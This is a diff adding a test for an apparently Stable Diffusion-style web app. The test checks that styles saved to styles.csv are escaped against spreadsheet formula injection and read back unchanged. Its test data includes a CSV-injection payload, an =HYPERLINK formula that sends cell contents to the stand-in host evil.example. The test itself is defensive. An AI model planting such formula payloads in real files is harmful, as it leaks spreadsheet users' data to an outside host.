@@ -143,3 +143,45 @@ def test_an_image_too_large_for_its_use_is_refused_from_its_header(make_app, hug
     body = assert_error(response, 400, field)
     assert "4096x4096" in body["value"] or "8192x8192" in body["error"], body
     assert growth < 16 * MB, f"the request grew the peak RSS by {growth / MB:.0f} MB"
+
+
+# --- styles.csv opened in a spreadsheet -------------------------------------------------------
+
+FORMULAS = [  # (name, prompt, negative prompt) as a user writes them
+    ("+1 boost", '=HYPERLINK("http://evil.example/?"&A1,"click")', "-blurry"),
+    ("@artist", "@{prompt} by Artist", "+lowres"),
+    ("-minus", "\t=1+1 tab first", "\r=1+1 return first"),
+    ("'+quoted", "'=already quoted", "''-two quotes"),
+    ("plain 'one'", "'just a quote", "a = b, c - d"),
+]
+
+
+def test_styles_csv_holds_no_formula_and_reads_back_what_was_written(styled, tmp_path):
+    """Names and texts beginning with ``= + - @`` were written raw into styles.csv:
+    opened in Excel or LibreOffice, ``=HYPERLINK(...)`` is a live formula (OWASP's CSV
+    injection). They are written after a ``'`` (a spreadsheet shows text), and read back,
+    by GET /api/styles and by the jobs that apply them, exactly as they were written."""
+    import csv
+
+    for name, prompt, negative in FORMULAS:
+        response = styled.put(f"/api/styles/{name}", json={"prompt": prompt, "negative_prompt": negative})
+        assert response.status_code == 201, response.get_json()
+        assert response.get_json()["style"] == {"name": name, "prompt": prompt, "negative_prompt": negative}
+    raw = (tmp_path / "styles.csv").read_bytes().decode("utf-8")
+    with open(tmp_path / "styles.csv", newline="", encoding="utf-8") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]  # what a spreadsheet puts in each cell
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], raw
+    assert "'=HYPERLINK(" in raw and "'-blurry" in raw and "'+1 boost" in raw and "''=already quoted" in raw
+    assert "'just a quote" in raw and "'''-two quotes" in raw  # a quote before no formula is left alone
+
+    assert _listed(styled.get("/api/styles").get_json()["styles"]) == FORMULAS
+    assert _listed(styled.get("/sdapi/v1/prompt-styles").get_json()) == FORMULAS
+    params = styled.post("/api/jobs", json=small_job(prompt="a fox", styles=["@artist"])).get_json()["job"]["params"]
+    assert (params["prompt"], params["negative_prompt"]) == ("@a fox by Artist", "+lowres")
+    # An edit rewrites every row: what was read back is written again unchanged.
+    assert styled.put("/api/styles/plain 'one'", json={"prompt": "x"}).status_code == 200
+    assert _listed(styled.get("/api/styles").get_json()["styles"])[:4] == FORMULAS[:4]
+
+
+def _listed(styles: list[dict]) -> list[tuple[str, str, str]]:
+    return [(s["name"], s["prompt"], s["negative_prompt"]) for s in styles]
